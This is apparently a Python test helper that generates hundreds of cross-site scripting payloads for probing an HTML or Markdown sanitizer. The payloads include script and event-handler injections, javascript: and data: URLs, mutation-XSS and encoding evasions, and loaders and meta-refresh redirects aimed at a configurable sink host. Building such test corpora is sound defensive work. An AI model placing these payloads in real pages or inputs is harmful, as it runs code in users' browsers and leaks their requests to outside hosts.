"""Hundreds of texts that would run, load or lead elsewhere if they reached a page as they are.

Each is made of a carrier, a spelling and a place to break out of; CODE is what must never run, SINK whom nobody may
ask.
"""

from __future__ import annotations

import html
from itertools import product, zip_longest
from random import Random

CODE = "ran=1;alert(1)"
TAGS = ("img", "svg", "body", "video", "iframe", "input", "details", "object", "marquee", "math", "a", "div", "select")
EVENTS = ("onload", "onerror", "onclick", "onfocus", "ontoggle", "onmouseover", "onbegin", "onanimationstart")
BREAKS = (
    "",
    '">',
    "'>",
    "-->",
    "</title>",
    "</style>",
    "</textarea>",
    "]]>",
    "`",
    "</script>",
    "</a></p></li>",
    "\n\n",
)
URL_PLACES = (
    "[x](URL)",
    "[x](<URL>)",
    '[x](URL "t")',
    "![x](URL)",
    "<URL>",
    "[x][y]\n\n[y]: URL",
    '<a href="URL">x</a>',
    "<a href='URL'>x</a>",
    "<a href=URL>x</a>",
    '<iframe src="URL"></iframe>',
    '<form action="URL"><button>x</button></form>',
    '<svg><a xlink:href="URL"><text y="9">x</text></a></svg>',
    '<math href="URL">x</math>',
    '<object data="URL"></object>',
    '<embed src="URL">',
    '<base href="URL//">',
)
SCHEMES = (
    "javascript:CODE",
    "JaVaScRiPt:CODE",
    "java\tscript:CODE",
    "javascript&colon;CODE",
    "&#106;avascript:CODE",
    "&#x6A&#x61;vascript:CODE",
    "\x01javascript:CODE",
    "javascript://x%0aCODE",
    "data:text/html,<script>CODE</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW49MTwvc2NyaXB0Pg==",
    "vbscript:CODE",
    "view-source:javascript:CODE",
)
LOADERS = (
    '<img src="SINK/N">',
    "<img src=SINK/N>",
    '<img srcset="SINK/N 2x">',
    '<picture><source srcset="SINK/N"><img src="x"></picture>',
    '<video poster="SINK/N"></video>',
    '<video src="SINK/N" autoplay></video>',
    '<audio src="SINK/N" autoplay></audio>',
    '<video><track default src="SINK/N"></video>',
    '<input type="image" src="SINK/N">',
    '<body background="SINK/N">',
    '<table background="SINK/N"><tr><td>x</table>',
    '<script src="SINK/N"></script>',
    '<script type="module">import "SINK/N"</script>',
    '<link rel="stylesheet" href="SINK/N">',
    '<link rel="icon" href="SINK/N">',
    '<link rel="preload" as="script" href="SINK/N">',
    '<link rel="modulepreload" href="SINK/N">',
    '<link rel="manifest" href="SINK/N">',
    '<iframe src="SINK/N"></iframe>',
    '<frameset><frame src="SINK/N"></frameset>',
    '<object data="SINK/N"></object>',
    '<embed src="SINK/N">',
    '<style>@import "SINK/N";</style>',
    "<style>*{background:url(SINK/N)}</style>",
    '<style>@font-face{font-family:x;src:url("SINK/N")}*{font-family:x}</style>',
    '<p style="background:url(SINK/N)">x</p>',
    "<p style=\"list-style:url('SINK/N');display:list-item\">x</p>",
    '<svg><image href="SINK/N"/></svg>',
    '<svg><image xlink:href="SINK/N"/></svg>',
    '<svg><use href="SINK/N#x"/></svg>',
    '<svg><feImage href="SINK/N"/></svg>',
    "<svg><style>*{fill:url(SINK/N)}</style><rect width=9 height=9 /></svg>",
    '<a ping="SINK/N" href="#">x</a>',
    "![x](SINK/N)",
    '![x](SINK/N "t")',
    "![x][y]\n\n[y]: SINK/N",
    "[![x](SINK/N)](x)",
    "<!--><img src=SINK/N>-->",
    '<noscript><img src="SINK/N"></noscript>',
    '<template shadowrootmode="open"><img src="SINK/N"></template>',
    "<isindex type=image src=SINK/N>",
    "<img src='//HOST/N'>",
    "<img src='\\\\HOST/N'>",
    "![x](//HOST/N)",
    "<img/src=/\\HOST/N>",
    '<meta http-equiv="Link" content="<SINK/N>; rel=stylesheet">',
)
LEADERS = (
    '<meta http-equiv="refresh" content="0;url=SINK/away">',
    "<META HTTP-EQUIV=refresh CONTENT=\"0;URL='SINK/away'\">",
    '"><meta http-equiv="refresh" content="0; SINK/away">',
)
"""What leads a reader elsewhere by itself."""
CODED = (
    "<script>CODE</script>",
    "<ScRiPt >CODE</ScRiPt >",
    "<script\n>CODE</script\n>",
    "<script/x>CODE</script>",
    "<script src=data:,CODE></script>",
    "<script>/*<!--*/CODE//-->\n</script>",
    "<<script>script>CODE<</script>/script>",
    "<svg><script>CODE</script></svg>",
    "<svg><script href='data:,CODE'/></svg>",
    "<math><script>CODE</script></math>",
    "<svg><![CDATA[><script>CODE</script>]]></svg>",
    "<noscript><p title='</noscript><script>CODE</script>'>",
    "<style><style/><script>CODE</script>",
    "<xmp><p title='</xmp><script>CODE</script>'>",
    "<template><script>CODE</script></template>",
    "<div><template shadowrootmode=open><script>CODE</script></template></div>",
    "<iframe srcdoc='<script>parent.CODE</script>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.CODE&lt;/script&gt;'></iframe>",
    "<math><mi><table><mglyph><style><!--</style><img title='--><img src onerror=CODE>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=CODE>",
    "<svg></p><style><a id='</style><img src=1 onerror=CODE>'>",
    "<svg><animate onbegin=CODE attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=CODE>",
    "<a href=# style='animation:x' onanimationstart=CODE>x</a><style>@keyframes x{}</style>",
    "```html\n</code></pre><script>CODE</script>\n```",
    "`</code><script>CODE</script>`",
    "| a |\n|---|\n| <script>CODE</script> |",
    "- <img src=x onerror=CODE>\n  > <svg onload=CODE>",
    "[<img src=x onerror=CODE>](x)",
    '[x](x "\\"onmouseover=CODE x=\\"")',
    '![x](x "><script>CODE</script>")',
    "# <script>CODE</script> {#a onclick=CODE}",
    "{{ ''.__class__ }}<script>CODE</script>",
    "{% raw %}<script>CODE</script>{% endraw %}",
    "${CODE}#{CODE}<%= CODE %>",
    '!!! note "<script>CODE</script>"\n    <script>CODE</script>',
    "[^1]\n\n[^1]: <script>CODE</script>",
    "*[HTML]: <script>CODE</script>\n\nHTML",
    ":material-x: :<script>CODE</script>:",
    "$$\\href{javascript:CODE}{x}$$",
    '```mermaid\ngraph TD; A-->B; click A href "javascript:CODE"\n```',
    "&lt;script&gt;CODE&lt;/script&gt;",
    "&amp;lt;script&amp;gt;CODE&amp;lt;/script&amp;gt;",
    "\\<script>CODE\\</script>",
    "\ufeff<script>CODE</script>",
    "\u202e<script>CODE</script>",
    "<\u200bscript>CODE</script><script>CODE</script>",
    "<scr\x00ipt>CODE</scr\x00ipt>",
    "%3Cscript%3ECODE%3C/script%3E",
    "\\u003cscript\\u003eCODE\\u003c/script\\u003e",
    "¼script¾CODE¼/script¾",
)


def payloads(count: int, seed: int, sink: str) -> list[str]:
    """Return so many texts, all different; those made by hand first, then mixtures."""
    raw = [text for texts in zip_longest(CODED, LOADERS, LEADERS) for text in texts if text]
    mixed = [*_handlers(), *_links(), *_broken_out()]
    Random(seed).shuffle(mixed)
    texts = list(dict.fromkeys([*raw, *mixed]))[:count]
    host = sink.removeprefix("http://")
    return [
        text.replace("CODE", CODE).replace("SINK", sink).replace("HOST", host).replace("/N", f"/p{number}")
        for number, text in enumerate(texts)
    ]


def _handlers() -> list[str]:
    spellings = ("<TAG EVENT=CODE>x", '<TAG/EVENT="CODE"/autofocus tabindex=1 open>x', "<TAG\nEVENT\n=\n'CODE' src=x>x")
    return [
        spelling.replace("TAG", tag).replace("EVENT", event)
        for tag, event, spelling in product(TAGS, EVENTS, spellings)
    ]


def _links() -> list[str]:
    return [place.replace("URL", scheme) for place, scheme in product(URL_PLACES, SCHEMES)]


def _broken_out() -> list[str]:
    carriers = (*CODED[:8], *LOADERS[:6])
    texts = [f"{start}{carrier}" for start, carrier in product(BREAKS, carriers)]
    return texts + [html.escape(html.escape(carrier)) for carrier in carriers]
